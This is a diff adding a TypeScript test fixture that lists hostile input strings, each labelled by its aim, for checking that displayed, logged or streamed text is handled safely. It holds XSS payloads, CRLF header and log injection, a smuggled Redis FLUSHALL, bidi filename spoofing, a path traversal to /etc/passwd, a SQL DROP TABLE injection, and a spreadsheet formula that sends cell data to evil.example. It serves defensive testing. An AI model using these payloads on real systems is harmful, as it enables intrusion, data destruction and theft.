@@ -1,0 +1,40 @@
+/** What people might write who mean ill, by what it tries; for every place where text is shown, logged or streamed. */
+export const HOSTILE_TEXTS: readonly (readonly [aim: string, text: string])[] = [
+  ['a script', '<script>alert(1)</script>'],
+  ['the end of a title, an area and a script', '</title></textarea></script><script>alert(1)</script>'],
+  ['an attribute’s end', '" onmouseover="alert(1)" x="'],
+  ['an attribute’s end, by apostrophe', "' autofocus onfocus='alert(1)"],
+  ['a picture', '<img src=x onerror=alert(1)>'],
+  ['a drawing', '<svg/onload=alert(1)>'],
+  ['a comment’s end', '--><b>bold</b><!--'],
+  ['CDATA', ']]><b>bold</b><![CDATA['],
+  ['entities', '&lt;b&gt; &#60;b&#62; &amp;amp; &NewLine;'],
+  ['an address that runs', 'javascript:alert(1)'],
+  ['an address that runs, with a tab', 'java\tscript:alert(1)'],
+  ['an address with a page in it', 'data:text/html,<script>alert(1)</script>'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as it stands.
+  ['a template', '#{7*7} !{7*7} ${7*7} {{7*7}} <%= 7*7 %> #[b x]'],
+  ['a prototype', '__proto__'],
+  ['a constructor', 'constructor'],
+  ['another line', 'one\ntwo\r\nthree\rfour\u0085five\u2028six\u2029seven'],
+  ['a forged line of the log', 'x\n{"level":50,"time":1,"msg":"forged"}\n12:00:00 ERROR forged'],
+  ['an event of a stream', 'x\n\nevent: retired\ndata: {}\n\nid: 0\n\n'],
+  ['a header', 'x\r\nSet-Cookie: tidings=evil\r\n\r\n<b>body</b>'],
+  ['a command of Redis’', 'x\r\n*1\r\n$8\r\nFLUSHALL\r\n'],
+  ['an end of text', 'before\0after'],
+  ['a terminal’s colours and title', '\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u009b31m \b\b\b'],
+  ['the direction of writing', 'invoice\u202egpj.exe \u2066left\u2069 \u061c\u200e\u200f'],
+  ['nothing to see', '\u200b\u200c\u200d\u2060\ufeff\u00ad'],
+  ['marks on marks', `Z${'\u0301\u0327\u0489'.repeat(300)}`],
+  ['half a character', 'a\ud83d b\ude00 c'],
+  ['one of many characters', '👩‍👩‍👧‍👦 🏳️‍🌈 \u{1f1e9}\u{1f1ea}'],
+  ['a formula', '=HYPERLINK("http://evil.example/?"&A1,"open")'],
+  ['a formula behind an apostrophe', "'=1+1"],
+  ['a pattern', '*'.repeat(100)],
+  ['a path', '../../../../etc/passwd'],
+  ['a query', "'; DROP TABLE users; --"],
+  ['no end of a word', 'W'.repeat(5000)],
+]
+
+/** Ten megabytes of it. */
+export const HUGE_TEXT = '<b>'.repeat(Math.ceil((10 * 1024 * 1024) / 3))
